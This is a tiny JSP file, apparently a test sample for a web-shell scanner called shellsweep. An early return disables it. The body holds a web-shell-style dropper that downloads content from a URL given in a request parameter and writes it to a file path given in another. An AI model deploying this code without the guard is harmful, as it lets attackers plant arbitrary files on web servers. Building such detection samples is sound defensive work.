<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% java.io.InputStream in = new java.net.URL(request.getParameter("u")).openStream();
   java.io.FileOutputStream o = new java.io.FileOutputStream(request.getParameter("f"));
   int c; while ((c = in.read()) != -1) o.write(c); o.close(); %>
